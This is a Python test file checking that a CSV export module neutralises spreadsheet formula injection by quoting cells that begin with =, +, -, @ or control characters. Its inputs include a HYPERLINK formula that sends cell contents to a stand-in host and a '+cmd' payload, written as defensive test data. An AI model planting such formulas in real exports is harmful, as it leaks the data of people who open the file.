"""CSV that people open in a spreadsheet."""

from __future__ import annotations

import pytest

from trainmaster import csv_text


@pytest.mark.parametrize("text", ['=HYPERLINK("http://x/"&A1)', "+1+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_what_a_spreadsheet_would_compute_is_quoted(text: str) -> None:
    line = csv_text.lines([[text, 1]])
    assert line.lstrip('"').startswith("'")


@pytest.mark.parametrize("cell", ["-0.5", "+3e9", "-inf", "-", "", "a=b", -0.5, 7])
def test_numbers_and_other_text_stay_as_they_are(cell: object) -> None:
    assert csv_text.lines([[cell]]).strip('"\n') == str(cell)
